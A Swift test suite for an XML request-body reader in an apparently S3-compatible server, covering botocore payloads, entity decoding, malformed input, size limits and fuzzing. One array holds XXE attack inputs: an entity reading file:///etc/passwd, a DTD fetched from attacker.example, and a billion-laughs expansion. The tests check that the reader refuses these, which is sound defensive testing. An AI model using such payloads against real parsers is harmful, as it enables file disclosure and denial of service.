import NimbusProtocols
import Testing

/// Reading request bodies: what botocore sends, what XML allows, and what an attacker sends.
@Suite struct XMLReaderTests {
    func read(_ text: String, limits: XMLReader.Limits = .init()) throws -> XML.Element {
        try XMLReader(limits: limits).read(Array(text.utf8))
    }

    /// botocore's RestXMLSerializer output for DeleteObjects.
    @Test func readsBotocoresDeleteObjects() throws {
        let body = """
            <Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Object><Key>a&amp;b&lt;c&gt;</Key></Object>\
            <Object><Key>k2</Key><VersionId>v1</VersionId></Object><Quiet>true</Quiet></Delete>
            """
        let delete = try self.read(body)
        #expect(delete.name == "Delete")
        #expect(delete[attribute: "xmlns"] == "http://s3.amazonaws.com/doc/2006-03-01/")
        #expect(delete.all("Object").compactMap { $0.first("Key")?.text } == ["a&b<c>", "k2"])
        #expect(delete.all("Object")[1].first("VersionId")?.text == "v1")
        #expect(delete.first("Quiet")?.text == "true")
    }

    @Test func readsAnIndentedCompleteMultipartUploadWithDeclarationAndComments() throws {
        let body = """
            \u{feff}<?xml version="1.0" encoding="utf-8" standalone='yes'?>
            <!-- parts in order -->
            <CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">
              <Part>
                <ETag>"e1"</ETag>
                <PartNumber>1</PartNumber>
              </Part>
              <?app ignore me?>
              <Part><ETag>&quot;e2&quot;</ETag><PartNumber>2</PartNumber></Part>
            </CompleteMultipartUpload>

            """
        let upload = try self.read(body)
        #expect(upload.text == "")
        #expect(upload.all("Part").compactMap { $0.first("ETag")?.text } == [#""e1""#, #""e2""#])
        #expect(upload.all("Part").compactMap { $0.first("PartNumber")?.text } == ["1", "2"])
    }

    @Test func keepsLeafTextExactlyAndNormalisesLineEnds() throws {
        let element = try self.read("<R><K>  a b  </K><C><![CDATA[<not> &markup;]]></C><L>x\r\ny\rz</L><E/></R>")
        #expect(element.first("K")?.text == "  a b  ")
        #expect(element.first("C")?.text == "<not> &markup;")
        #expect(element.first("L")?.text == "x\ny\nz")
        #expect(element.first("E") == XML.Element("E"))
    }

    @Test func decodesReferencesAndNormalisesAttributeWhitespace() throws {
        let element = try self.read("<R a='x\ty\r\nz' b=\"&#65;&#x42;&#x1b;&lt;\">&#x10151;&#252;&apos;</R>")
        #expect(element[attribute: "a"] == "x y z")
        #expect(element[attribute: "b"] == "AB\u{1b}<")
        #expect(element.text == "\u{10151}ü'")
    }

    static let xxe: [String] = [
        #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        #"<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"#,
        #"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><r>&lol2;</r>"#,
        "<!DOCTYPE r><r/>",
    ]

    @Test(arguments: Self.xxe)
    func refusesDTDsSoNoEntityIsEverExpanded(_ body: String) {
        #expect {
            try self.read(body)
        } throws: { error in
            (error as? WireFormatError)?.code == .malformedXML
                && (error as? WireFormatError)?.message.contains("DOCTYPE declarations are not allowed") == true
        }
    }

    @Test func refusesEntityDeclarationsAndUndefinedEntitiesInContent() {
        #expect(
            throws: WireFormatError(.malformedXML, "markup declarations (ENTITY) are not allowed (line 1, column 4)")
        ) {
            try self.read(#"<r><!ENTITY x "y"></r>"#)
        }
        #expect(
            throws: WireFormatError(
                .malformedXML,
                "undefined entity &x; (no DTD is read, so only the five predefined entities exist) (line 1, column 4)"
            )
        ) { try self.read("<r>&x;</r>") }
    }

    static let malformed: [(String, String)] = [
        ("", "no root element"),
        ("   ", "no root element"),
        ("text", "text before the root element"),
        ("<a>", "<a> is not closed"),
        ("<a></b>", "end tag </b> does not match <a>"),
        ("<a><b></a></b>", "end tag </a> does not match <b>"),
        ("<a/><b/>", "content after the root element"),
        ("<a/>text", "content after the root element"),
        ("<a x='1' x='2'/>", "attribute x appears twice"),
        ("<a x='1'y='2'/>", "expected whitespace"),
        ("<a x=1/>", "expected a quoted attribute value"),
        ("<a x='<'/>", "\"<\" is not allowed in an attribute value"),
        ("<a x='1/>", "unterminated attribute value"),
        ("<1a/>", "expected an element name"),
        ("<a>]]></a>", "\"]]>\" is not allowed"),
        ("<a>&amp</a>", "expected \";\" after &amp"),
        ("<a>&#0;</a>", "invalid character reference"),
        ("<a>&#xD800;</a>", "invalid character reference"),
        ("<a>&#x110000;</a>", "invalid character reference"),
        ("<a>&#xZ;</a>", "invalid character reference"),
        ("<a>&#;</a>", "invalid character reference"),
        ("<a>&#x0000000041;</a>", "invalid character reference"),
        ("<a><!-- a -- b --></a>", "\"--\" is not allowed inside a comment"),
        ("<a><!-- open", "unterminated comment"),
        ("<a><![CDATA[open</a>", "unterminated CDATA section"),
        ("<a><?xml version='1.0'?></a>", "the XML declaration must come first"),
        ("<a><?pi open</a>", "unterminated processing instruction"),
        ("<?xml version='1.0' encoding='ISO-8859-1'?><a/>", "declares encoding ISO-8859-1"),
        ("<?xml version='2.0'?><a/>", "version 1.x"),
        ("<?xml encoding='UTF-8'?><a/>", "version 1.x"),
        ("<?xml version='1.0' bogus='x'?><a/>", "unexpected bogus"),
        ("<a>\u{1}</a>", "character U+1 is not allowed"),
        ("<a>\u{fffe}</a>", "character U+FFFE is not allowed"),
        ("<a><![x]></a>", "unexpected markup"),
    ]

    @Test(arguments: Self.malformed)
    func refusesMalformedDocuments(_ body: String, _ expectedMessage: String) {
        #expect {
            try self.read(body)
        } throws: { error in
            guard let error = error as? WireFormatError else { return false }
            return error.code == .malformedXML && error.message.contains(expectedMessage)
        }
    }

    @Test func reportsLineAndColumn() {
        #expect(throws: WireFormatError(.malformedXML, "end tag </b> does not match <a> (line 3, column 3)")) {
            try self.read("<r>\n<a>\n  </b>\n</r>")
        }
    }

    @Test(arguments: [[0xff], [0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e], [0xfe, 0xff, 0x00, 0x3c]])
    func refusesBytesThatAreNotUTF8(_ bytes: [UInt8]) {
        #expect {
            try XMLReader().read(bytes)
        } throws: { error in
            (error as? WireFormatError)?.message.hasPrefix("the document is not valid UTF-8") == true
        }
    }

    @Test func enforcesSizeDepthAndElementLimits() throws {
        let limits = XMLReader.Limits(maximumBytes: 64, maximumDepth: 3, maximumElements: 4)
        #expect(
            throws: WireFormatError(.limitExceeded, "XML document of 65 bytes is larger than the limit of 64 bytes")
        ) {
            try self.read("<a>" + String(repeating: "x", count: 58) + "</a>", limits: limits)
        }
        #expect(throws: Never.self) { try self.read("<a><b><c/></b></a>", limits: limits) }
        #expect(throws: WireFormatError(.limitExceeded, "XML elements nested deeper than 3 levels")) {
            try self.read("<a><b><c><d/></c></b></a>", limits: limits)
        }
        #expect(throws: WireFormatError(.limitExceeded, "more than 4 XML elements")) {
            try self.read("<a><b/><b/><b/><b/></a>", limits: limits)
        }
    }

    @Test func readsManyAttributesInLinearTime() throws {
        let attributes = (0..<5_000).map { " a\($0)=''" }.joined()
        let element = try self.read("<r\(attributes)/>")
        #expect(element.attributes.count == 5_000)
        #expect(throws: WireFormatError.self) { try self.read("<r\(attributes) a0=''/>") }
    }

    @Test func refusesDeepNestingWithoutRecursion() {
        let body = String(repeating: "<a>", count: 100_000)
        #expect(throws: WireFormatError(.limitExceeded, "XML elements nested deeper than 32 levels")) {
            try self.read(body)
        }
    }

    @Test func survivesMutatedDocuments() throws {
        var generator = SeededGenerator(state: 3986)
        let seed = Array(
            #"<?xml version="1.0"?><D a="1&amp;2"><O><K>k&#x1b;</K><![CDATA[x]]></O><!--c--><Q>true</Q></D>"#.utf8
        )
        let alphabet = Array("<>/&;#x=\"'![]-?aD \u{1}".utf8) + [0xc3, 0xff]
        for _ in 0..<3_000 {
            var bytes = seed
            for _ in 0..<Int.random(in: 1...3, using: &generator) {
                let position = Int.random(in: 0..<bytes.count, using: &generator)
                switch Int.random(in: 0..<3, using: &generator) {
                case 0: bytes[position] = alphabet.randomElement(using: &generator)!
                case 1: bytes.remove(at: position)
                default: bytes.insert(alphabet.randomElement(using: &generator)!, at: position)
                }
            }
            // Whatever is read must be written back readably (most mutants are refused, which is also fine).
            if let element = try? XMLReader().read(bytes) {
                #expect(try XMLReader().read(element.document()) == element)
            }
        }
    }
}
